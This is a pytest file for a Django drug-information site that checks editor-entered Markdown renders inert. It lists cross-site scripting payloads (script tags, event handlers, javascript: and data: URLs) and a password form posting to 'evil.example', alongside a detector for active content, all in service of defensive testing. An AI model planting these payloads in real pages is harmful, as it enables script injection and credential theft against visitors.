"""Everything an editor types is sanitized before a visitor sees it."""

from html.parser import HTMLParser

import pytest
from django.urls import reverse

from monographs.models import Drug
from monographs.rendering import render_markdown

HOSTILE = [
    "<script>alert('x')</script>",
    '<img src="x" onerror="alert(1)">',
    "[click me](javascript:alert(1))",
    '<a href="javascript:alert(1)">link</a>',
    "<iframe src='https://example.com'></iframe>",
    '<svg onload="alert(1)"></svg>',
    "[x](JaVaScRiPt:alert(1))",
    "![img](javascript:alert(1))",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{display:none}</style>",
    '<form action="https://evil.example"><input name="password"></form>',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
]


class ActiveContent(HTMLParser):
    """Collects what a browser would act on: dangerous tags, event handlers, script URLs."""

    DANGEROUS_TAGS = {"script", "iframe", "svg", "style", "form", "input", "object", "embed"}

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attrs):
        # JSON-LD is data, not script: the page's own, built from escaped JSON.
        is_data = tag == "script" and ("type", "application/ld+json") in attrs
        if tag in self.DANGEROUS_TAGS and not is_data:
            self.found.append(tag)
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on") or name == "style":
                self.found.append(f"{tag}[{name}]")
            if name in ("href", "src", "action") and value.startswith(("javascript:", "data:")):
                self.found.append(f"{tag}[{name}={value}]")


def active_content(html):
    parser = ActiveContent()
    parser.feed(html)
    return parser.found


def is_inert(html):
    return not active_content(html)


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_markdown_renders_inert(text):
    assert is_inert(render_markdown(text))


def test_markdown_still_renders():
    html = render_markdown("**Bold** and [a link](https://example.com)\n\n* one\n* two")
    assert "<strong>Bold</strong>" in html
    assert '<a href="https://example.com" rel="nofollow noopener noreferrer">a link</a>' in html
    assert "<li>one</li>" in html


def test_editor_headings_stay_below_the_page_sections():
    assert render_markdown("# Big\n\n## Smaller") == "<h3>Big</h3>\n<h4>Smaller</h4>"


@pytest.mark.django_db
def test_every_markdown_field_of_a_drug_page_renders_inert(client):
    drug = Drug.objects.get(slug="interferon-beta-1b")
    payload = "\n\n".join(HOSTILE)
    for field in ("usage", "dosage_notes", "side_effect_notes", "mechanism", "other_notes"):
        setattr(drug, field, payload)
    drug.summary = drug.generic_name = payload[:400]
    drug.save()
    for related, field in (
        (drug.dosages, "instructions"),
        (drug.precautions, "text"),
        (drug.faqs, "answer"),
        (drug.faqs, "question"),
        (drug.interactions, "description"),
        (drug.side_effect_links, "note"),
        (drug.dosages, "label"),
        (drug.precautions, "topic"),
    ):
        related.update(**{field: payload[:190]})
    response = client.get(reverse("monographs:drug-detail", kwargs={"slug": drug.slug}))
    assert response.status_code == 200
    assert active_content(response.content.decode()) == []
    assert "alert(" in response.content.decode()  # the text is there, as harmless text


def test_markdownx_preview_uses_the_same_renderer(settings):
    assert settings.MARKDOWNX_MARKDOWNIFY_FUNCTION == "monographs.rendering.render_markdown"
